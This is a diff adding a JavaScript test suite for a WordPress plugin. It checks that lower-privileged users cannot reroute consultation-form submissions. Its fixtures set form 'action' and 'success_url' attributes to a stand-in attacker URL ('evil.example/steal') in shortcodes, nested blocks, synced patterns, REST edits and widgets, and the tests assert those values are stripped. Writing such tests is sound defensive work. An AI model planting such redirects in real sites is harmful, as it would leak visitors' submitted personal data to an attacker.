@@ -1,0 +1,119 @@
+// Where consultation forms send their data (`action`, `success_url` in shortcodes and blocks) is
+// decided when content is saved, by the saving user's rights (like kses): an Author's post and
+// synced pattern, an administrator's post edited through REST by a manager without
+// unfiltered_html, widgets saved through REST by each, and an administrator's template and widget
+// shown on an Author's post.
+import assert from 'node:assert/strict';
+import { before, describe, it } from 'node:test';
+import { phpString } from './site.mjs';
+
+const EVIL = 'https://evil.example/steal';
+const THANKS = 'https://evil.example/thanks';
+
+/** Form destinations in a shortcode and in a nested block's attributes, which kses does not read. */
+const routingPage = (action, success, from = 'from') => [
+  `<!-- wp:shortcode -->\n[blush_consult_form action="${action}" success_url="${success}" class="${from}-shortcode"]\n<!-- /wp:shortcode -->`,
+  `<!-- wp:columns --><div class="wp-block-columns"><!-- wp:column --><div class="wp-block-column"><!-- wp:blush/consult-form {"action":"${action}","success_url":"${success}","class":"${from}-block"} /--></div><!-- /wp:column --></div><!-- /wp:columns -->`,
+].join('\n\n');
+
+/**
+ * PHP for the site setup, run where `$make($title, $content, $user, $type)`, `$author` and `$ids`
+ * exist: adds its pages to `$ids` and sets `$routing` (stored widget texts and pattern).
+ */
+export function routingPhp({ endpoint, site }) {
+  return `
+  $rest = function ($user, $method, $route, $params) {
+    wp_set_current_user($user);
+    $request = new WP_REST_Request($method, $route);
+    foreach ($params as $name => $value) $request->set_param($name, $value);
+    $response = rest_do_request($request);
+    if ($response->is_error()) { echo 'ERROR ' . $route . ' ' . wp_json_encode($response->get_data()); exit; }
+    return $response->get_data();
+  };
+  $ids['authorRouting'] = $make('Consultations (author)', ${phpString(routingPage(EVIL, THANKS))}, $author, 'post');
+  $ids['adminRouting'] = $make('Consultations (admin)', ${phpString(routingPage(`${endpoint}/wp-leads-admin`, `${site}/thank-you/`))}, 1);
+  $caps = get_role('editor')->capabilities;
+  unset($caps['unfiltered_html']);
+  add_role('clinic_manager', 'Clinic manager', $caps + array('edit_theme_options' => true));
+  $manager = wp_insert_user(array('user_login' => 'manager', 'user_pass' => 'manager-password-1', 'user_email' => 'manager@example.com', 'role' => 'clinic_manager'));
+  $pattern = $rest($author, 'POST', '/wp/v2/blocks', array('title' => 'Consult form (author)', 'status' => 'publish', 'content' => ${phpString(routingPage(EVIL, THANKS, 'pattern'))}));
+  $ids['pattern'] = $make('Consultations (pattern)', '<!-- wp:block {"ref":' . $pattern['id'] . '} /-->', 1);
+  $ids['managerRouting'] = $make('Consultations (edited)', ${phpString(routingPage(`${endpoint}/wp-leads-admin`, `${site}/thank-you/`))}, 1, 'post');
+  $rest($manager, 'POST', '/wp/v2/posts/' . $ids['managerRouting'], array('content' => ${phpString(routingPage(EVIL, THANKS, 'edit'))}));
+  $widget = function ($user, $text) use ($rest) {
+    $saved = $rest($user, 'POST', '/wp/v2/widgets', array('id_base' => 'text', 'sidebar' => 'wp_inactive_widgets', 'instance' => array('raw' => array('title' => '', 'text' => $text, 'filter' => true, 'visual' => true))));
+    return $saved['id'];
+  };
+  $adminWidget = $widget(1, ${phpString(`[blush_consult_form action="${endpoint}/wp-leads-widget" class="widget-admin"]`)});
+  $managerWidget = $widget($manager, ${phpString(`[blush_consult_form action="${EVIL}" success_url="${THANKS}" class="widget-manager"]`)});
+  $ids['authorTemplate'] = $make('Consultations (author, template)', ${phpString(routingPage(EVIL, THANKS))}, $author, 'post');
+  wp_set_current_user(1);
+  $single = wp_insert_post(wp_slash(array('post_type' => 'wp_template', 'post_name' => 'single-post-' . get_post($ids['authorTemplate'])->post_name, 'post_title' => 'Consultations', 'post_status' => 'publish', 'post_content' =>
+    ${phpString(`<!-- wp:shortcode -->
+[blush_consult_form action="${endpoint}/wp-leads-template" success_url="${site}/thank-you/" class="template"]
+<!-- /wp:shortcode -->`)}
+    . '<!-- wp:legacy-widget {"id":"' . $adminWidget . '"} /--><!-- wp:legacy-widget {"id":"' . $managerWidget . '"} /--><!-- wp:post-content /-->')), true);
+  if (is_wp_error($single)) { echo 'ERROR single template'; exit; }
+  wp_set_post_terms($single, 'twentytwentythree', 'wp_theme');
+  $routing = array(
+    'widgets' => array_values(array_map(function ($instance) { return $instance['text']; }, array_filter(get_option('widget_text'), 'is_array'))),
+    'patternStored' => get_post($pattern['id'])->post_content,
+  );
+`;
+}
+
+/** The `<blush-consult-form>` tags of a page as the server sent them. */
+async function renderedForms(url) {
+  const html = await (await fetch(url)).text();
+  const attribute = (tag, name) => tag.match(new RegExp(`\\s${name}="([^"]*)"`))?.[1] ?? null;
+  return [...html.matchAll(/<blush-consult-form\b[^>]*>/g)].map(([tag]) => ({ class: attribute(tag, 'class'), action: attribute(tag, 'action'), success: attribute(tag, 'success-url') }));
+}
+
+/** The tests, given `context()` → { pages, endpoint, site } once the site is set up. */
+export function describeRouting(context) {
+  describe('form destinations (action, success_url) are decided when content is saved', () => {
+    let pages;
+    let endpoint;
+    let site;
+    before(() => ({ pages, endpoint, site } = context()));
+
+    const settings = (from) => [
+      { class: `${from}-shortcode`, action: `${endpoint.url}/wp-leads`, success: null },
+      { class: `${from}-block`, action: `${endpoint.url}/wp-leads`, success: null },
+    ];
+    const assertStripped = (stored, from) => {
+      for (const removed of ['evil.example', 'action', 'success_url']) assert.ok(!stored.includes(removed), `stored content kept ${removed}: ${stored}`);
+      for (const kept of [`class="${from}-shortcode"`, `"class":"${from}-block"`, '<!-- wp:column -->']) assert.ok(stored.includes(kept), `stored content lost ${kept}: ${stored}`);
+    };
+
+    it("an Author's shortcode and nested block lose them when saved, and send to the clinic's endpoint", async () => {
+      assert.deepEqual(await renderedForms(pages.authorRouting.url), settings('from'));
+      assertStripped(pages.authorRouting.stored, 'from');
+    });
+    it("an Author's synced pattern loses them, also inside an administrator's page", async () => {
+      assert.deepEqual(await renderedForms(pages.pattern.url), settings('pattern'));
+      assertStripped(pages.patternStored, 'pattern');
+    });
+    it("a manager without unfiltered_html editing an administrator's post through REST cannot reroute it", async () => {
+      assert.deepEqual(await renderedForms(pages.managerRouting.url), settings('edit'));
+      assertStripped(pages.managerRouting.stored, 'edit');
+    });
+    it("an administrator's shortcode and nested block keep their own action and success_url", async () => {
+      assert.deepEqual(await renderedForms(pages.adminRouting.url), [
+        { class: 'from-shortcode', action: `${endpoint.url}/wp-leads-admin`, success: `${site.url}/thank-you/` },
+        { class: 'from-block', action: `${endpoint.url}/wp-leads-admin`, success: `${site.url}/thank-you/` },
+      ]);
+    });
+    it("on an Author's post, the administrator's template and widget keep theirs, the manager's widget and the Author's content do not", async () => {
+      assert.deepEqual(await renderedForms(pages.authorTemplate.url), [
+        { class: 'template', action: `${endpoint.url}/wp-leads-template`, success: `${site.url}/thank-you/` },
+        { class: 'widget-admin', action: `${endpoint.url}/wp-leads-widget`, success: null },
+        { class: 'widget-manager', action: `${endpoint.url}/wp-leads`, success: null },
+        ...settings('from'),
+      ]);
+      const widget = (name) => pages.widgets.find((text) => text.includes(`class="${name}"`)) ?? '';
+      assert.ok(widget('widget-admin').includes(`action="${endpoint.url}/wp-leads-widget"`), `admin's widget stored as ${widget('widget-admin')}`);
+      assert.ok(!/evil|action|success_url/.test(widget('widget-manager')), `manager's widget stored as ${widget('widget-manager')}`);
+    });
+  });
+}
